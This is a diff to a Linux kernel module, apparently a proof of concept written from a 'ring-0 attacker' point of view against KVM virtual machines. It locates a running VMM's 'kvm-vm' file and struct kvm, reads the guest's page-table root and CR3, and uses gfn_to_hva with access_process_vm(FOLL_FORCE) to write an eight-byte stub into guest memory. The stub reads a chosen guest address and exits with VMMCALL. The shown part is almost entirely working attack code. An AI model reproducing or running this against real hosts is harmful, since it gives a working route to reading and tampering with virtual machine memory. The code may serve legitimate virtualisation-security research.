@@ -9,10 +9,11 @@
  * code the host wrote into the guest's shared memory. Found the way a ring-0 attacker
  * finds them: the VMM's file table holds the VM's file ("kvm-vm"), whose private_data
  * is KVM's struct kvm; vCPU 0 gives the root (arch.mmu->root.hpa) and the guest's CR3.
- * The L2 code (3 instructions, written at CODE_GPA with kvm_write_guest(), taken with
- * symbol_get so this module loads without KVM) reads the qword at READ_GPA into rcx and
- * exits with VMMCALL. CODE_GPA must be a page the guest already touched (KVM maps a
- * page in its table on the guest's first access).
+ * The L2 code (3 instructions) goes into the VMM's memory at CODE_GPA: gfn_to_hva()
+ * (taken with symbol_get, so this module loads without KVM) gives the VMM's address,
+ * access_process_vm() writes there as ptrace would. It reads the qword at READ_GPA into
+ * rcx and exits with VMMCALL. CODE_GPA must be a page the guest already touched (KVM
+ * maps a page in its table on the guest's first access).
  */
 #include <linux/fdtable.h>
 #include <linux/file.h>
@@ -28,8 +29,9 @@
 /* movq (%rbx), %rcx; vmmcall; ud2: the same as l2_stub.S, as bytes for guest memory */
 static const u8 l2_code[] = { 0x48, 0x8b, 0x0b, 0x0f, 0x01, 0xd9, 0x0f, 0x0b };
 
-/* The VMM process's VM file ("kvm-vm"), with a reference; NULL if it has none. */
-static struct file *vm_file(pid_t nr)
+/* The VMM process's VM file ("kvm-vm") and, in *task, the process; both with a
+ * reference. NULL if it has none. */
+static struct file *vm_file(pid_t nr, struct task_struct **task)
 {
 	struct pid *pid = find_get_pid(nr);
 	struct task_struct *t = pid ? get_pid_task(pid, PIDTYPE_PID) : NULL;
@@ -54,53 +56,65 @@ static struct file *vm_file(pid_t nr)
 		spin_unlock(&files->file_lock);
 	}
 	task_unlock(t);
-	put_task_struct(t);
+	if (hit)
+		*task = t;
+	else
+		put_task_struct(t);
 	return hit;
+}
+
+/* Write the L2 code at gpa into the VMM's memory; 0 or a negative errno. */
+static int write_code(struct task_struct *t, struct kvm *kvm, u64 gpa)
+{
+	unsigned long (*to_hva)(struct kvm *kvm, gfn_t gfn);
+	unsigned long hva;
+	int idx, n;
+
+	to_hva = symbol_get(gfn_to_hva);
+	if (!to_hva)
+		return -ENOENT;
+	idx = srcu_read_lock(&kvm->srcu);
+	hva = to_hva(kvm, gpa >> PAGE_SHIFT);
+	srcu_read_unlock(&kvm->srcu, idx);
+	symbol_put(gfn_to_hva);
+	if (kvm_is_error_hva(hva))
+		return -EFAULT;
+	hva += offset_in_page(gpa);
+	n = access_process_vm(t, hva, (void *)l2_code, sizeof(l2_code), FOLL_WRITE | FOLL_FORCE);
+	out("code_hva=0x%lx ", hva);
+	return n == sizeof(l2_code) ? 0 : -EIO;
 }
 
 static int cmd_nest_vm(int argc, const u64 *a)
 {
-	int (*write_guest)(struct kvm *kvm, gpa_t gpa, const void *data, unsigned long len);
+	struct task_struct *t = NULL;
 	struct vmcb *v = svm_page(SVM_VMCB);
 	void *hsave = svm_page(SVM_HSAVE);
-	struct file *f = vm_file(a[0]);
+	struct file *f = vm_file(a[0], &t);
 	struct kvm_vcpu *vcpu;
 	u64 root, cr3, efer, l2_before, l2_after;
 	struct nest_out o;
 	unsigned long flags;
-	int err, idx;
+	int err;
 
-	if (!v || !hsave || !svm_page(SVM_STACK)) {
-		if (f)
-			fput(f);
-		return -ENOMEM;
-	}
 	if (!f) {
 		out("result=error reason=no_vm_file pid=%llu\n", a[0]);
 		return 0;
 	}
 	vcpu = kvm_get_vcpu(f->private_data, 0);
-	if (!vcpu || !vcpu->arch.mmu || !VALID_PAGE(vcpu->arch.mmu->root.hpa)) {
-		out("result=error reason=no_vcpu_root\n");
-		fput(f);
-		return 0;
+	err = !v || !hsave || !svm_page(SVM_STACK) ? -ENOMEM : 0;
+	if (!err && (!vcpu || !vcpu->arch.mmu || !VALID_PAGE(vcpu->arch.mmu->root.hpa)))
+		err = -ESRCH;
+	if (!err) {
+		root = vcpu->arch.mmu->root.hpa;
+		cr3 = vcpu->arch.cr3;
+		err = write_code(t, vcpu->kvm, a[1]);
+		out("root=0x%llx cr3=0x%llx code_written=%d ", root, cr3, err);
 	}
-	root = vcpu->arch.mmu->root.hpa;
-	cr3 = vcpu->arch.cr3;
-	write_guest = symbol_get(kvm_write_guest);
-	if (!write_guest) {
-		out("result=error reason=no_kvm_write_guest\n");
-		fput(f);
-		return 0;
-	}
-	idx = srcu_read_lock(&vcpu->kvm->srcu);
-	err = write_guest(vcpu->kvm, a[1], l2_code, sizeof(l2_code));
-	srcu_read_unlock(&vcpu->kvm->srcu, idx);
-	symbol_put(kvm_write_guest);
 	fput(f);
-	out("root=0x%llx cr3=0x%llx code_written=%d ", root, cr3, err);
+	put_task_struct(t);
 	if (err) {
-		out("result=error reason=write_guest\n");
+		out("result=error err=%d\n", err);
 		return 0;
 	}
 
